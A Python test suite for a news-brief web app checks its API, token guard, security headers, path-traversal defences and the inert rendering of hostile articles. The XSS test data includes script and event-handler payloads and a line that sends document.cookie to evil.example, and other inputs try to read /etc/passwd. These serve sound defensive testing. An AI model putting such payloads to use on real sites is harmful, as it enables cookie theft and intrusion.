"""Tests of the HTTP API and page security: in process, plus a few against a live server.

Most tests call the app in process (Starlette's TestClient) over a real SQLite
store in tmp_path; what only a running server shows (the token guard, the event
loop staying responsive during a brief, ``newsfuse serve`` itself) runs against
uvicorn on 127.0.0.1, in a thread or a subprocess. The store is filled
through ``POST /api/articles`` with invented articles (a ferry grounding on
the fictional island of Varnholm, reported by three made-up outlets that
disagree on the passenger count). Responses are validated against the app's
own OpenAPI document with jsonschema.
"""

from __future__ import annotations

import json
import re
import threading
import time
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st

from conftest import FIXTURES as FIXTURES_ROOT
from conftest import SRC, LiveServer, free_port, load_records, start_server, subprocess_env
from newsfuse.errors import StoreError
from newsfuse.server.app import create_app
from newsfuse.server.schemas import parse_time_bound
from newsfuse.server.security import is_loopback
from newsfuse.server.views import safe_link, segment_text

FIXTURES = FIXTURES_ROOT / "server"
TOKEN = "test-token-4f1c"


# ---------------------------------------------------------------- live server


@pytest.fixture(scope="module")
def live(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
    server = start_server(tmp_path_factory.mktemp("store") / "news.sqlite")
    yield server
    server.stop()


@pytest.fixture(scope="module")
def guarded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
    server = start_server(tmp_path_factory.mktemp("guarded") / "news.sqlite", token=TOKEN)
    yield server
    server.stop()


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[httpx.Client]:
    """The app in process (Starlette's TestClient, an httpx.Client over ASGI) on a fresh store:
    no socket or thread per request, so most tests need no live server."""
    app = create_app(tmp_path_factory.mktemp("store") / "news.sqlite")
    with TestClient(app, base_url="http://127.0.0.1") as http:
        yield http


@pytest.fixture(scope="module")
def live_client(live: LiveServer) -> Iterator[httpx.Client]:
    """A real HTTP client of the live server, for what only a running server shows."""
    with httpx.Client(base_url=live.url, timeout=120) as http:
        yield http


@pytest.fixture(scope="module")
def spec(client: httpx.Client) -> dict[str, Any]:
    answer = client.get("/openapi.json")
    assert answer.status_code == 200
    document: dict[str, Any] = answer.json()
    return document


def check_against_spec(
    spec: dict[str, Any], path: str, method: str, response: httpx.Response
) -> None:
    """Validate a response body against the schema the OpenAPI document gives for it."""
    import jsonschema
    from referencing import Registry, Resource
    from referencing.jsonschema import DRAFT202012

    operation = spec["paths"][path][method]
    status = str(response.status_code)
    assert status in operation["responses"], f"{method} {path} does not document {status}"
    schema = operation["responses"][status]["content"]["application/json"]["schema"]
    registry: Registry[Any] = Registry().with_resource(
        "urn:newsfuse:openapi", Resource.from_contents(spec, default_specification=DRAFT202012)
    )
    root = {**schema, "$schema": "https://json-schema.org/draft/2020-12/schema"}
    validator = jsonschema.Draft202012Validator(
        _rebase(root, "urn:newsfuse:openapi"), registry=registry
    )
    validator.validate(response.json())


def _rebase(node: Any, base: str) -> Any:
    """Point local ``#/components/...`` references at the registered OpenAPI document."""
    if isinstance(node, dict):
        return {
            k: (
                base + v
                if k == "$ref" and isinstance(v, str) and v.startswith("#")
                else _rebase(v, base)
            )
            for k, v in node.items()
        }
    if isinstance(node, list):
        return [_rebase(item, base) for item in node]
    return node


@pytest.fixture(scope="module")
def stored(client: httpx.Client) -> dict[str, Any]:
    """Ingest the invented articles once through the API; returns the ingest report."""
    answer = client.post("/api/articles", json={"articles": load_records()})
    assert answer.status_code == 200, answer.text
    report: dict[str, Any] = answer.json()
    return report


# ---------------------------------------------------------------- pure helpers


@given(
    st.text(max_size=60),
    st.lists(
        st.tuples(st.integers(-5, 70), st.integers(-5, 70), st.sampled_from("abcd")), max_size=6
    ),
)
def test_segment_text_keeps_the_text_and_marks_exactly_the_spans(
    text: str, spans: list[tuple[int, int, str]]
) -> None:
    segments = segment_text(text, spans)
    assert "".join(s.text for s in segments) == text
    position = 0
    for segment in segments:
        for offset in range(position, position + len(segment.text)):
            covering = {m for s, e, m in spans if max(0, s) <= offset < min(len(text), e)}
            assert set(segment.marks) == covering
        position += len(segment.text)
    starts = [m for s in segments for m in s.starts]
    assert len(starts) == len(set(starts)), "each mark gets exactly one anchor"


@given(st.text(max_size=40))
def test_safe_link_only_passes_http_urls(url: str) -> None:
    link = safe_link(url)
    assert link is None or link.lower().startswith(("http://", "https://"))


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        " JavaScript:alert(1)",
        "java\tscript:alert(1)",
        "data:text/html,x",
        "vbscript:x",
        "//evil.example/x",
        "https://",
    ],
)
def test_safe_link_refuses_script_and_relative_urls(url: str) -> None:
    assert safe_link(url) is None


@pytest.mark.parametrize(
    ("host", "loopback"),
    [
        ("127.0.0.1", True),
        ("localhost", True),
        ("::1", True),
        ("[::1]", True),
        ("127.0.0.2", True),
        ("0.0.0.0", False),
        ("192.168.1.4", False),
        ("example.org", False),
        ("::", False),
    ],
)
def test_is_loopback(host: str, loopback: bool) -> None:
    assert is_loopback(host) is loopback


def test_parse_time_bound_reads_dates_and_makes_until_inclusive() -> None:
    since = parse_time_bound("2026-03-02", "since")
    until = parse_time_bound("2026-03-02", "until", end_of_day=True)
    assert since is not None and until is not None
    assert since.tzinfo is not None and (since.hour, until.hour, until.minute) == (0, 23, 59)
    assert parse_time_bound("  ", "since") is None


def test_parse_time_bound_names_the_field_in_its_error() -> None:
    from newsfuse.errors import InputError

    with pytest.raises(InputError, match="since"):
        parse_time_bound("last tuesday", "since")


# ---------------------------------------------------------------- meta, headers, limits


def test_healthz_answers_ok(client: httpx.Client, spec: dict[str, Any]) -> None:
    answer = client.get("/healthz")
    assert answer.status_code == 200 and answer.json()["status"] == "ok"
    assert answer.json()["models"] == "on demand"
    check_against_spec(spec, "/healthz", "get", answer)


def test_a_preloading_server_says_when_its_models_are_ready(
    tmp_path: Path, spec: dict[str, Any]
) -> None:
    app = create_app(tmp_path / "news.sqlite", preload=True)
    with TestClient(app, base_url="http://127.0.0.1") as http:
        states = [http.get("/healthz").json()["models"]]
        deadline = time.monotonic() + 120
        while states[-1] == "loading" and time.monotonic() < deadline:
            time.sleep(0.05)
            states.append(http.get("/healthz").json()["models"])
        assert states[-1] == "ready" and set(states) <= {"loading", "ready"}
        check_against_spec(spec, "/healthz", "get", http.get("/healthz"))
        answer = http.post("/api/brief", json={"articles": [{"text": "Gulls nested on the quay."}]})
        assert answer.status_code == 200


def test_openapi_lists_every_endpoint_and_embeds_the_brief_schema(spec: dict[str, Any]) -> None:
    assert {
        "/api/brief",
        "/api/articles",
        "/api/stories",
        "/api/stories/{story_id}",
        "/api/storylines/{storyline_id}",
        "/healthz",
    } <= set(spec["paths"])
    assert "summary" in spec["components"]["schemas"]["Brief"]["properties"]


def test_security_headers_on_pages_api_and_static(client: httpx.Client) -> None:
    for path in ("/new", "/healthz", "/static/style.css", "/no/such/page"):
        headers = client.get(path).headers
        assert headers["x-content-type-options"] == "nosniff"
        csp = headers["content-security-policy"]
        assert "frame-ancestors 'none'" in csp and "script-src 'self'" in csp
        assert "unsafe-inline" not in csp


def test_interactive_docs_that_need_a_cdn_are_off(client: httpx.Client) -> None:
    assert client.get("/docs").status_code == 404


@pytest.mark.parametrize(
    "path",
    [
        "/static/..%2f..%2fapp.py",
        "/static/..%2F..%2F..%2Fpyproject.toml",
        "/static/%2e%2e/app.py",
        "/static/../app.py",
        "/static/..%5capp.py",
        "/static//etc/passwd",
    ],
)
def test_static_files_cannot_escape_their_folder(client: httpx.Client, path: str) -> None:
    answer = client.get(path)
    assert answer.status_code in (400, 404)
    assert "create_app" not in answer.text and "root:" not in answer.text


def test_static_files_are_served(client: httpx.Client) -> None:
    answer = client.get("/static/app.js")
    assert answer.status_code == 200 and "textContent" in answer.text
    assert "innerHTML" not in answer.text


def test_oversized_body_is_refused_with_413(client: httpx.Client) -> None:
    body = json.dumps({"articles": [{"text": "x" * (6 * 1024 * 1024)}]})
    answer = client.post("/api/brief", content=body, headers={"content-type": "application/json"})
    assert answer.status_code == 413
    assert "larger than" in answer.json()["detail"]


def test_chunked_oversized_body_is_refused_with_413(client: httpx.Client) -> None:
    def chunks() -> Iterator[bytes]:
        yield b'{"articles": [{"text": "'
        for _ in range(6):
            yield b"y" * (1024 * 1024)
        yield b'"}]}'

    answer = client.post(
        "/api/articles", content=chunks(), headers={"content-type": "application/json"}
    )
    assert answer.status_code == 413


def test_too_many_articles_is_refused_with_422_and_a_clear_message(
    client: httpx.Client, spec: dict[str, Any]
) -> None:
    articles = [{"text": f"Short note number {i}."} for i in range(201)]
    answer = client.post("/api/articles", json={"articles": articles})
    assert answer.status_code == 422
    assert "at most 200" in json.dumps(answer.json())
    check_against_spec(spec, "/api/articles", "post", answer)


def test_malformed_json_is_a_422_not_a_crash(client: httpx.Client) -> None:
    answer = client.post(
        "/api/brief", content=b"{not json", headers={"content-type": "application/json"}
    )
    assert answer.status_code == 422


def test_bad_date_filter_names_the_field(client: httpx.Client) -> None:
    answer = client.get("/api/stories", params={"since": "someday"})
    assert answer.status_code == 422 and "since" in answer.json()["detail"]


def test_unknown_page_is_a_friendly_404_page(client: httpx.Client) -> None:
    answer = client.get("/no/such/page", headers={"accept": "text/html"})
    assert answer.status_code == 404 and "Not found" in answer.text


# ---------------------------------------------------------------- tokens


def test_writes_need_the_token_when_the_server_has_one(guarded: LiveServer) -> None:
    body = {"articles": [{"text": "The Varnholm lighthouse reopened on Friday."}]}
    with httpx.Client(base_url=guarded.url, timeout=60) as http:
        for path in ("/api/articles", "/api/brief"):
            missing = http.post(path, json=body)
            wrong = http.post(path, json=body, headers={"authorization": "Bearer nope"})
            assert missing.status_code == wrong.status_code == 401
            assert missing.headers["www-authenticate"] == "Bearer"
            assert "token" in missing.json()["detail"]
        assert http.get("/healthz").status_code == 200  # reads stay open
        form = http.post("/new", data={"text": "The lighthouse reopened.", "token": "nope"})
        assert form.status_code == 401 and "access token" in form.text


def test_serve_refuses_a_public_host_without_a_token(tmp_path: Path) -> None:
    import subprocess
    import sys

    env = {"PYTHONPATH": str(SRC), "PATH": "/usr/bin:/bin"}
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "newsfuse",
            "serve",
            "--host",
            "0.0.0.0",
            "--db",
            str(tmp_path / "x.sqlite"),
        ],
        capture_output=True,
        text=True,
        timeout=60,
        env=env,
    )
    assert done.returncode != 0
    assert "--token" in done.stderr and "NEWSFUSE_TOKEN" in done.stderr


# ---------------------------------------------------------------- XSS

XSS_TITLE = '<script>alert("title")</script>Varnholm pier fire'
XSS_SOURCE = '"><svg onload=alert(2)>Gull Gazette'
XSS_URL = "javascript:alert(3)"
XSS_ID = 'x" onmouseover="alert(4)'
XSS_TEXT = (
    "Firefighters on Varnholm put out a fire on the old pier on Sunday night. "
    "<img src=x onerror=alert(1)> The harbour master said 30 metres of decking burned. "
    "<script>document.location='https://evil.example/'+document.cookie</script> "
    "Nobody was hurt, the fire service said."
)


def xss_records() -> list[dict[str, Any]]:
    return [
        {
            "id": XSS_ID,
            "title": XSS_TITLE,
            "source": XSS_SOURCE,
            "url": XSS_URL,
            "published": "2026-04-01T20:00:00Z",
            "text": XSS_TEXT,
        },
        {
            "id": XSS_ID + "2",
            "title": XSS_TITLE,
            "source": XSS_SOURCE + " Weekend",
            "url": "JaVaScRiPt:alert(5)",
            "published": "2026-04-01T22:00:00Z",
            "html": f"<html><body><article><h1>{XSS_TITLE}</h1><p>{XSS_TEXT}</p>"
            "<p onclick=alert(6)>The pier will be rebuilt with 30 metres of new decking.</p>"
            "</article></body></html>",
        },
    ]


class TagCollector(HTMLParser):
    """Collects every start tag with its attributes, to inspect a page's structure."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def assert_page_is_inert(html: str) -> str:
    """Fail if untrusted data became markup: stray scripts, handlers or script URLs.

    Returns the page's text content (entities decoded) for further checks.
    """
    collector = TagCollector()
    collector.feed(html)
    for tag, attrs in collector.tags:
        names = {name for name, _ in attrs}
        assert not any(name.startswith("on") for name in names), (tag, attrs)
        assert tag not in {"svg", "img", "iframe", "object", "embed"}, (tag, attrs)
        if tag == "script":
            assert dict(attrs).get("src") == "/static/app.js", attrs
        for name, value in attrs:
            if name in {"href", "src", "action", "formaction"} and value:
                assert not value.strip().lower().startswith(("javascript:", "data:", "vbscript:"))
    return "".join(collector.text)


def test_stateless_brief_escapes_every_field_in_json(
    client: httpx.Client, spec: dict[str, Any]
) -> None:
    answer = client.post("/api/brief", json={"articles": xss_records(), "budget": 60})
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("application/json")
    check_against_spec(spec, "/api/brief", "post", answer)
    brief = answer.json()
    titles = {source["title"] for source in brief["sources"]}
    outlets = {source["source"] for source in brief["sources"]}
    assert XSS_TITLE in titles and XSS_SOURCE in outlets  # kept as data, not mangled


def test_new_form_renders_hostile_articles_inert(client: httpx.Client) -> None:
    answer = client.post(
        "/new",
        data={
            "title": XSS_TITLE,
            "source": XSS_SOURCE,
            "url": XSS_URL,
            "text": XSS_TEXT,
            "published": "2026-04-01T20:00",
            "budget": "60",
        },
    )
    assert answer.status_code == 200, answer.text
    text = assert_page_is_inert(answer.text)
    assert XSS_TITLE in text and XSS_SOURCE in text


def test_stored_hostile_articles_are_inert_on_every_page(
    client: httpx.Client, stored: dict[str, Any], spec: dict[str, Any]
) -> None:
    report = client.post("/api/articles", json={"articles": xss_records()})
    assert report.status_code == 200, report.text
    touched = report.json()["stories_touched"]
    assert touched
    listing = client.get("/", params={"q": "pier"})
    assert listing.status_code == 200
    assert XSS_TITLE in assert_page_is_inert(listing.text) or "pier" in listing.text.lower()
    assert_page_is_inert(client.get("/").text)
    for story_id in touched:
        page = client.get(f"/stories/{story_id}")
        assert page.status_code == 200
        text = assert_page_is_inert(page.text)
        assert "Varnholm" in text
        data = client.get(f"/api/stories/{story_id}")
        check_against_spec(spec, "/api/stories/{story_id}", "get", data)
        storyline = data.json()["story"]["storyline_id"]
        assert_page_is_inert(client.get(f"/storylines/{storyline}").text)


# ---------------------------------------------------------------- store endpoints


def test_ingest_report_counts_the_articles(
    stored: dict[str, Any], client: httpx.Client, spec: dict[str, Any]
) -> None:
    assert stored["new"] == 4 and stored["skipped"] == []
    again = client.post("/api/articles", json={"articles": load_records()[:1]})
    assert again.status_code == 200
    assert (
        again.json()["new"] == 0
        and again.json()["duplicates"] + again.json()["near_duplicates"] == 1
    )
    check_against_spec(spec, "/api/articles", "post", again)


def test_the_app_opens_one_corpus_at_startup_and_closes_it_at_shutdown(tmp_path: Path) -> None:
    app = create_app(tmp_path / "news.sqlite")
    with TestClient(app) as client:  # in process: the lifespan runs on entering
        corpus = app.state.corpus
        answer = client.post("/api/articles", json={"articles": load_records()[:2]})
        assert answer.status_code == 200 and answer.json()["new"] >= 1
        listed = client.get("/api/stories", params={"q": 'ferry "*-'}).json()["stories"]
        assert listed and app.state.corpus is corpus  # the same handle served both
    assert app.state.corpus is None
    with pytest.raises(StoreError, match="closed"):
        corpus.stories()


def test_a_search_with_punctuation_only_finds_nothing_and_is_no_error(
    stored: dict[str, Any], client: httpx.Client
) -> None:
    answer = client.get("/api/stories", params={"q": '"*-()'})
    assert answer.status_code == 200 and answer.json()["stories"] == []
    page = client.get("/", params={"q": '("Kestrel*-'})
    assert page.status_code == 200 and "Kestrel" in page.text


def test_story_list_search_and_date_filter(
    stored: dict[str, Any], client: httpx.Client, spec: dict[str, Any]
) -> None:
    everything = client.get("/api/stories")
    check_against_spec(spec, "/api/stories", "get", everything)
    titles = [story["title"] for story in everything.json()["stories"]]
    assert any("Varnholm" in t or "Morwenna" in t for t in titles)
    assert any("Kestrel" in t for t in titles)
    march = client.get("/api/stories", params={"since": "2026-03-01", "until": "2026-03-02"})
    assert all("Kestrel" not in s["title"] for s in march.json()["stories"])
    assert march.json()["stories"], "the ferry story falls inside the window"
    bridge = client.get("/api/stories", params={"q": "Kestrel"}).json()["stories"]
    assert [s["article_count"] for s in bridge] == [1]
    page = client.get("/api/stories", params={"limit": 1, "offset": 0}).json()
    assert len(page["stories"]) == 1 and page["limit"] == 1


def test_story_has_brief_facts_sources_and_timeline(
    stored: dict[str, Any], client: httpx.Client, spec: dict[str, Any]
) -> None:
    listing = client.get("/api/stories", params={"q": "Varnholm"}).json()["stories"]
    ferry = next(s for s in listing if s["article_count"] == 3)
    answer = client.get(f"/api/stories/{ferry['id']}")
    assert answer.status_code == 200
    check_against_spec(spec, "/api/stories/{story_id}", "get", answer)
    story = answer.json()
    assert story["brief"]["summary"] and story["timeline"]
    assert {s["source"] for s in story["brief"]["sources"]} == {
        "Harbour Daily",
        "Northern Ledger",
        "Coastline Radio",
    }
    storyline = client.get(f"/api/storylines/{ferry['storyline_id']}")
    check_against_spec(spec, "/api/storylines/{storyline_id}", "get", storyline)
    assert ferry["id"] in {s["id"] for s in storyline.json()["stories"]}


def test_unknown_story_is_404(
    client: httpx.Client, spec: dict[str, Any], stored: dict[str, Any]
) -> None:
    answer = client.get("/api/stories/no-such-story")
    assert answer.status_code == 404
    check_against_spec(spec, "/api/stories/{story_id}", "get", answer)
    assert client.get("/stories/no-such-story").status_code == 404


def test_pages_render_the_story(client: httpx.Client, stored: dict[str, Any]) -> None:
    home = client.get("/")
    assert home.status_code == 200 and "Kestrel" in home.text
    assert "Kestrel" not in client.get("/", params={"since": "2026-03-01"}).text
    ferry = next(
        s
        for s in client.get("/api/stories", params={"q": "Varnholm"}).json()["stories"]
        if s["article_count"] == 3
    )
    page = client.get(f"/stories/{ferry['id']}")
    assert page.status_code == 200
    text = assert_page_is_inert(page.text)
    for outlet in ("Harbour Daily", "Northern Ledger", "Coastline Radio"):
        assert outlet in text
    assert 'class="cite"' in page.text and "<mark" in page.text
    statuses = {
        fact["status"]
        for fact in client.get(f"/api/stories/{ferry['id']}").json()["brief"]["facts"]
    }
    assert "conflict" in statuses, "the invented sources disagree on the passenger count"
    labels = {"conflict": "Conflict", "revision": "Revised", "agree": "Agree"}
    for status in statuses & set(labels):
        assert f'class="fact fact-{status}"' in page.text and labels[status] in text


def test_stateless_brief_matches_the_cli_json(client: httpx.Client, spec: dict[str, Any]) -> None:
    from newsfuse import pipeline
    from newsfuse.render import render

    records = load_records()[:3]
    answer = client.post("/api/brief", json={"articles": records, "budget": 70})
    assert answer.status_code == 200, answer.text
    check_against_spec(spec, "/api/brief", "post", answer)
    report = pipeline.read_report(records)
    expected = json.loads(render(pipeline.brief(report.articles, budget=70), "json"))
    served = answer.json()
    for brief in (expected, served):
        brief["stats"]["timings"] = {}
    assert served == expected
    assert len(served["sources"]) == 3 and served["summary"]
    cited = {c["source"] for s in served["summary"] for c in s["citations"]}
    assert cited <= {1, 2, 3} and cited


def test_stateless_brief_without_usable_text_is_a_clear_422(
    client: httpx.Client, spec: dict[str, Any]
) -> None:
    answer = client.post("/api/brief", json={"articles": [{"title": "Only a title"}]})
    assert answer.status_code == 422
    check_against_spec(spec, "/api/brief", "post", answer)
    assert "no usable article" in answer.json()["detail"]


def test_build_brief_page_marks_cited_spans_and_flags_differing_claims() -> None:
    from newsfuse.model import Article, Brief, BriefSentence, Citation, Claim, Fact
    from newsfuse.server.views import build_brief_page

    first = Article(
        id="a", text="Gulls nested on the quay. 212 people watched.", source="Quay Post"
    )
    second = Article(id="b", text="Some 240 people watched the gulls.", source="Gull Gazette")
    brief = Brief(
        sentences=(
            BriefSentence(
                "212 people watched.", (Citation("a", 26, 46, 0.9), Citation("b", 0, 34, 0.7))
            ),
        ),
        sources=(first, second),
        facts=(
            Fact("agree", "gulls", "count", ()),
            Fact(
                "conflict",
                "watchers",
                "count",
                (
                    Claim("a", 26, 29, "212", "count", 212.0),
                    Claim("b", 5, 8, "240", "count", 240.0),
                    Claim("a", 26, 29, "212", "count", 212.0),
                ),
            ),
        ),
    )
    page = build_brief_page(brief)
    assert [c.number for c in page.lines[0].citations] == [1, 2]
    marked = {
        m: "".join(s.text for s in src.segments if m in s.marks)
        for src in page.sources
        for seg in src.segments
        for m in seg.marks
    }
    assert marked[page.lines[0].citations[0].mark] == "212 people watched."
    assert marked[page.lines[0].citations[1].mark] == second.text
    assert page.facts[0].status == "conflict" and page.facts[0].status_label == "Conflict"
    assert [c.differs for c in page.facts[0].claims] == [False, True, False]
    assert page.sources[1].link is None


def test_a_sentence_citing_a_name_and_its_span_in_one_article_shows_the_source_once() -> None:
    from newsfuse.model import Article, Brief, BriefSentence, Citation
    from newsfuse.server.views import build_brief_page

    # summary.names writes "Orla Penhallow" for "Penhallow" and cites the name's span too.
    text = "Orla Penhallow runs the quay. Penhallow counted 40 gulls."
    article = Article(id="a", text=text, source="Quay Post")
    brief = Brief(
        sentences=(
            BriefSentence(
                "Orla Penhallow counted 40 gulls.",
                (Citation("a", 30, 57, 0.9), Citation("a", 0, 14, 0.9)),
            ),
        ),
        sources=(article,),
        facts=(),
    )
    page = build_brief_page(brief)
    assert [c.number for c in page.lines[0].citations] == [1]
    mark = page.lines[0].citations[0].mark
    marked = [seg.text for seg in page.sources[0].segments if mark in seg.marks]
    assert marked == ["Orla Penhallow", "Penhallow counted 40 gulls."]
    # One anchor for the link to jump to: the mark starts once.
    assert sum(mark in seg.starts for seg in page.sources[0].segments) == 1


def test_new_form_briefs_uploaded_files(client: httpx.Client) -> None:
    lines = (FIXTURES / "ferry.jsonl").read_text("utf-8").splitlines()[:3]
    upload = ("ferry.jsonl", "\n".join(lines).encode(), "application/x-ndjson")
    answer = client.post("/new", data={"budget": "60"}, files={"files": upload})
    assert answer.status_code == 200, answer.text
    text = assert_page_is_inert(answer.text)
    assert "Your brief" in text and "Northern Ledger" in text and 'class="cite"' in answer.text


def test_a_conflict_note_on_the_new_page_cites_source_numbers_not_pasted_ids(
    client: httpx.Client,
) -> None:
    records = load_records()[:3]
    form = {
        field: [str(record.get(field, "")) for record in records]
        for field in ("title", "source", "text")
    }
    answer = client.post("/new", data={**form, "budget": "120"})
    assert answer.status_code == 200, answer.text
    notes = [
        re.sub(r"<[^>]+>", "", note)
        for note in re.findall(r'<span class="note">(.*?)</span>\s*</p>', answer.text, re.S)
    ]
    # The second source (Northern Ledger) counts 240 passengers where the brief says 212.
    assert "Conflict 240 according to [2]" in notes
    assert '[<a href="#source-2" aria-label="Source 2">2</a>]' in answer.text
    assert not any("pasted-" in note for note in notes)


def test_new_form_without_articles_explains_what_to_do(client: httpx.Client) -> None:
    answer = client.post("/new", data={"text": "   ", "budget": "60"})
    assert answer.status_code == 422
    assert "at least one article" in answer.text


def test_event_loop_stays_responsive_during_a_brief(tmp_path: Path) -> None:
    from newsfuse.corpus.jobs import JobSettings

    # The brief must run inside the request, not as a background job, to load the loop.
    synchronous = JobSettings(sync_max_articles=100, sync_max_chars=10**6)
    live = start_server(tmp_path / "news.sqlite", jobs=synchronous)
    try:
        _check_health_answers_during_a_brief(live.url)
    finally:
        live.stop()


def _check_health_answers_during_a_brief(url: str) -> None:
    live_client = httpx.Client(base_url=url, timeout=120)
    # Thirty articles of four editions each keep the brief (embeddings, spaCy) busy for
    # a second or more even on a fast CPU. Each edition's sentences differ, so the
    # editions are not collapsed as copies.
    articles = [
        {
            **record,
            "id": f"{record['id']}-{copy}",
            "url": f"{record['url']}?copy={copy}",
            "text": " ".join(
                record["text"].replace(". ", f" in edition {copy}-{part}. ") for part in range(4)
            ),
        }
        for copy in range(10)
        for record in load_records()[:3]
    ]
    finished: list[float] = []

    def run_brief() -> None:
        with httpx.Client(base_url=url, timeout=180) as other:
            other.post("/api/brief", json={"articles": articles, "budget": 300})
        finished.append(time.monotonic())

    started = time.monotonic()
    worker = threading.Thread(target=run_brief)
    worker.start()
    answered: list[float] = []
    while worker.is_alive():
        assert live_client.get("/healthz").status_code == 200
        answered.append(time.monotonic())
        time.sleep(0.05)
    worker.join()
    assert finished
    assert finished[0] - started > 0.4, "the brief is too quick to test this: give it more work"
    during = [t for t in answered if started + 0.2 < t < finished[0]]
    live_client.close()
    assert during, "no health check was answered while the brief was being computed"


def test_serve_command_starts_and_guards_writes(tmp_path: Path) -> None:
    import subprocess
    import sys

    port = free_port()
    env = {**subprocess_env(), "NEWSFUSE_TOKEN": TOKEN}
    command = [sys.executable, "-m", "newsfuse", "serve", "--port", str(port),
               "--db", str(tmp_path / "served.sqlite")]  # fmt: skip
    process = subprocess.Popen(command, env=env, stderr=subprocess.PIPE)
    try:
        base = f"http://127.0.0.1:{port}"
        deadline = time.monotonic() + 60
        while True:
            try:
                if httpx.get(base + "/healthz", timeout=2).status_code == 200:
                    break
            except httpx.TransportError:
                if time.monotonic() > deadline or process.poll() is not None:
                    pytest.fail("newsfuse serve did not start")
                time.sleep(0.2)
        answer = httpx.post(base + "/api/articles", json={"articles": [{"text": "x"}]})
        assert answer.status_code == 401  # NEWSFUSE_TOKEN was picked up
    finally:
        process.terminate()
        process.wait(timeout=20)


# ---------------------------------------------------------------- static assets

SERVER_DIR = SRC / "newsfuse" / "server"


def contrast(foreground: str, background: str) -> float:
    """WCAG 2.x contrast ratio of two #rrggbb colours."""

    def luminance(colour: str) -> float:
        channels = [int(colour[i : i + 2], 16) / 255 for i in (1, 3, 5)]
        linear = [c / 12.92 if c <= 0.03928 else ((c + 0.055) / 1.055) ** 2.4 for c in channels]
        return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]

    high, low = sorted((luminance(foreground), luminance(background)), reverse=True)
    return (high + 0.05) / (low + 0.05)


def test_colour_pairs_meet_wcag_aa() -> None:
    import re

    css = (SERVER_DIR / "static" / "style.css").read_text("utf-8")
    colours = dict(re.findall(r"--([a-z-]+):\s*(#[0-9a-f]{6});", css))
    text_pairs = [
        ("ink", "bg"), ("ink", "panel"), ("muted", "bg"), ("muted", "panel"),
        ("accent", "panel"), ("accent", "accent-soft"), ("accent-ink", "accent"),
        ("conflict", "conflict-bg"), ("revision", "revision-bg"), ("agree", "agree-bg"),
        ("single", "single-bg"), ("muted", "conflict-bg"), ("muted", "revision-bg"),
        ("ink", "mark"), ("ink", "mark-active"), ("conflict", "panel"),
    ]  # fmt: skip
    for foreground, background in text_pairs:
        ratio = contrast(colours[foreground], colours[background])
        assert ratio >= 4.5, f"{foreground} on {background}: {ratio:.2f} < 4.5"
    assert contrast(colours["focus"], colours["panel"]) >= 3, "focus ring (non-text, 3:1)"
    assert contrast(colours["focus"], colours["bg"]) >= 3


def test_templates_carry_no_inline_code_the_csp_would_block() -> None:
    import re

    for template in (SERVER_DIR / "templates").glob("*.html"):
        markup = template.read_text("utf-8")
        assert not re.search(r"\son[a-z]+\s*=", markup), template.name
        assert not re.search(r"\sstyle\s*=", markup), template.name
        assert "<style" not in markup and "|safe" not in markup.replace(" ", ""), template.name
        for script in re.findall(r"<script[^>]*>", markup):
            assert "src=" in script, f"inline script in {template.name}"


def test_brief_lines_carry_the_audit_flags() -> None:
    from newsfuse.model import Article, Brief, BriefSentence, Citation
    from newsfuse.server.views import build_brief_page

    text = (
        'Harbour master Greta Lind said: "We saw the storm coming for a decade. '
        'Nobody listened to us." The pier at Halvar closed on Tuesday after the storm.'
    )
    quote_end = text.index(" The pier")
    article = Article(id="halvar", text=text, source="Halvar Post")
    brief = Brief(
        sentences=(
            BriefSentence(text[:quote_end], (Citation("halvar", 0, quote_end, 1.0),)),
            BriefSentence("They said the pier would stay shut.", ()),
            BriefSentence('Ferry crews in Orrin were told to stay in port for days."', ()),
        ),
        sources=(article,),
    )
    flags = [[f.label for f in line.flags] for line in build_brief_page(brief).lines]
    assert flags == [["Quotation completed"], ["Leans on missing text"], ["Cut quotation"]]


def test_the_brief_page_shows_a_joined_sentence_flag(client: httpx.Client) -> None:
    story = (
        "The Orrin council voted on Tuesday to close the Halvar pier for two years.\n\n"
        "It said repairs would cost 4 million crowns and begin in the spring."
    )
    answer = client.post("/new", data={"text": story, "budget": "60"})
    assert answer.status_code == 200, answer.text
    assert 'class="badge badge-single flag"' in answer.text
    assert "With the sentence before" in answer.text


def test_the_brief_page_shows_an_undated_source_by_its_own_stamp(client: httpx.Client) -> None:
    story = (
        "The Orrin council voted to close the Halvar pier for two years.\n\n"
        "It said repairs would cost 4 million crowns and begin in the spring.\n\n"
        "Photo: Crews at the Halvar pier, 8 March 2026 (Orrin Daily)"
    )
    answer = client.post("/new", data={"text": story, "budget": "60"})
    assert answer.status_code == 200, answer.text
    assert '<time datetime="2026-03-08">08 Mar 2026</time>' in answer.text
    assert "(from the page's stamp or caption)" in answer.text
